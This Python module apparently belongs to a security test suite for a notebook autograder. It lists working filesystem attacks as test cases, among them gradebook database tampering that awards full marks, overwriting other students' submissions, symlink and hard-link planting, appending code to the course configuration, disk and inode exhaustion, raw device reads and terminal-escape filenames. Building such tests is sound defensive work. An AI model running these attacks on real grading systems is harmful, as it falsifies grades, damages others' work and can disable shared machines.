"""Attacks on files: writing, planting, filling."""

# ruff: noqa: E501 - a line of an attack is as long as what it tries

from __future__ import annotations

from ..attack import Attack, code

ATTACKS = (
    Attack(
        name="a file outside",
        story="Writes a file into a folder outside of its own that everybody may write to.",
        wants="a foothold outside",
        cells=('open(f"{OUTSIDE}/{MARK}", "w").write("here")\n',),
    ),
    Attack(
        name="points in the gradebook",
        story="Opens the gradebook's database and writes full points into its own rows.",
        wants="full marks in the gradebook",
        bodies={
            "causal_mask": code("""
                def raise_points():
                    import sqlite3
                    base = sqlite3.connect(COURSE + "/gradebook.db", timeout=2)
                    base.execute("update grade set auto_score = 4, manual_score = 4, needs_manual_grade = 0")
                    base.execute("create trigger if not exists more after update on grade begin update grade set extra_credit = 50; end")
                    base.commit()
                    won("writes into the gradebook")
                raise_points()
                def causal_mask(*a, **k):
                    raise_points()
            """),
        },
    ),
    Attack(
        name="another's submission overwritten",
        story="Overwrites the notebook that another student has handed in, and the release.",
        wants="harm to others",
        cells=(
            code("""
                import glob
                for path in glob.glob(f"{COURSE}/submitted/*/{CHAPTER}/*.ipynb") + glob.glob(f"{COURSE}/release/*/*"):
                    if f"/{SELF}/" not in path:
                        open(path, "a").write(" ")
                        won("changes somebody else's files")
            """),
        ),
    ),
    Attack(
        name="its own result overwritten",
        story="Writes a result and an autograded notebook of its own where the grader keeps them.",
        wants="full marks in reports and feedback",
        cells=(
            code("""
                import json, os
                for folder, name in ((f"{COURSE}/results/{CHAPTER}", f"{SELF}.json"), (f"{COURSE}/autograded/{SELF}/{CHAPTER}", f"{CHAPTER}.ipynb")):
                    os.makedirs(folder, exist_ok=True)
                    for written in (name, MARK):
                        open(f"{folder}/{written}", "w").write("{}")
            """),
        ),
    ),
    Attack(
        name="symbolic links planted",
        story="Plants symbolic links in its folder and in the grader's, under the names that the grader writes or clears away.",
        wants="a file of the attacker's choice overwritten or removed by the grader",
        cells=(
            code("""
                import os
                for folder in (".", "..", f"{COURSE}/autograded/{SELF}", f"{COURSE}/results/{CHAPTER}", f"{COURSE}/feedback"):
                    for name in (CHAPTER, f"{CHAPTER}.ipynb", "work", "out", "outputs", "result.json", "k", ".ipython"):
                        try:
                            os.symlink(OUTSIDE if "." not in name else COURSE + "/nbgrader_config.py", f"{folder}/{name}.{MARK}" if folder not in (".", "..") else f"{folder}/{name}")
                        except OSError:
                            pass
            """),
        ),
    ),
    Attack(
        name="hard links",
        story="Makes hard links to the gradebook and to another's work inside of its own folder, to change them from there.",
        wants="the gradebook from within its own folder",
        cells=(
            code("""
                import os
                for number, path in enumerate((COURSE + "/gradebook.db", COURSE + "/nbgrader_config.py", f"{COURSE}/release/{CHAPTER}/{CHAPTER}.ipynb")):
                    os.link(path, f"link{number}")
                    won("links to a file of the course")
            """),
        ),
    ),
    Attack(
        name="pipes that block",
        story="Plants named pipes where the grader may read or list files, to make it wait for ever.",
        wants="a batch that never ends",
        cells=(
            code("""
                import os
                for folder in (".", "..", OUTSIDE, f"{COURSE}/autograded", f"{COURSE}/results/{CHAPTER}"):
                    for name in (f"{MARK}.json", f"{MARK}.ipynb", f"{CHAPTER}.ipynb"):
                        try:
                            os.mkfifo(f"{folder}/{name}")
                        except OSError:
                            pass
            """),
        ),
    ),
    Attack(
        name="folders locked",
        story="Takes all permissions away from folders of the course and from its own.",
        wants="a batch that stops, and a folder that cannot be cleared away",
        cells=(
            code("""
                import os
                os.makedirs("a/b/c")
                for folder in ("a/b", "a", ".", OUTSIDE, f"{COURSE}/release"):
                    try:
                        os.chmod(folder, 0)
                    except OSError:
                        pass
            """),
        ),
    ),
    Attack(
        name="the course's configuration",
        story="Adds a line to the course's nbgrader_config.py, which is Python and runs with the next command.",
        wants="code that runs as the instructor",
        cells=(
            'open(COURSE + "/nbgrader_config.py", "a").write("# " + MARK + chr(10))\nwon("changes the configuration")\n',
        ),
    ),
    Attack(
        name="shared memory files",
        story="Leaves a file in /dev/shm, which outlives its folder.",
        wants="a letter box for later submissions",
        cells=('open(f"/dev/shm/{MARK}", "w").write("here")\n',),
    ),
    Attack(
        name="a huge file",
        story="Writes one file until the disk is full.",
        wants="a machine on which nothing can be written any more",
        unsafe="it would fill the disk",
        limit=True,
        solved=("merge_query_key",),
        bodies={
            "causal_mask": code("""
                def causal_mask(*a, **k):
                    block = b"x" * (1 << 20)
                    with open("huge", "wb") as file:
                        for _ in range(1 << 20):
                            file.write(block)
            """),
        },
    ),
    Attack(
        name="a sparse file",
        story="Makes a file of a petabyte that takes no room, for whoever copies or hashes it.",
        wants="a grader that copies for ever",
        cells=(
            code("""
                with open("sparse.ipynb", "wb") as file:
                    file.truncate(1 << 50)
            """),
        ),
        unsafe="it would leave a file that is larger than the disk to whatever copies folders",
    ),
    Attack(
        name="very many files",
        story="Makes empty files until there are no more inodes.",
        wants="a machine on which nothing can be written any more",
        unsafe="it would use up the inodes of the disk",
        limit=True,
        solved=("merge_query_key",),
        bodies={
            "causal_mask": code("""
                def causal_mask(*a, **k):
                    import os
                    for number in range(50_000_000):
                        os.mknod(f"n{number}")
            """),
        },
    ),
    Attack(
        name="folders in folders",
        story="Makes folders inside of each other, deeper than a path can be long.",
        wants="a grader that cannot clear up, or fails when it tries",
        cells=(
            code("""
                import os
                start = os.open(".", os.O_RDONLY)
                try:
                    for _ in range(3000):
                        os.mkdir("deep")
                        os.chdir("deep")
                except OSError as error:
                    print(type(error).__name__)
                os.fchdir(start)
            """),
        ),
    ),
    Attack(
        name="device nodes",
        story="Makes a node for the machine's first disk and reads from it.",
        wants="the whole disk",
        unsafe="it would open this machine's disk",
        cells=(
            code("""
                import os, stat
                for major, minor, kind in ((8, 0, stat.S_IFBLK), (254, 0, stat.S_IFBLK), (1, 1, stat.S_IFCHR)):
                    try:
                        os.mknod(f"node{major}", kind | 0o600, os.makedev(major, minor))
                        os.open(f"node{major}", os.O_RDONLY)
                        won("opens a device")
                    except OSError as error:
                        print(type(error).__name__)
            """),
        ),
    ),
    Attack(
        name="names that do not print",
        story="Leaves files whose names are terminal commands, line breaks and bytes that are no text.",
        wants="a grader that fails when it lists them, or a terminal that obeys",
        cells=(
            code("""
                for name in (b"\\x1b]0;owned\\x07", b"a\\nb", b"\\xff\\xfe", b"-rf", "\\u202e".encode(), b"x" * 255):
                    open(name, "wb").close()
                    open(OUTSIDE.encode() + b"/" + MARK.encode() + name[:40], "wb").close()
            """),
        ),
    ),
)
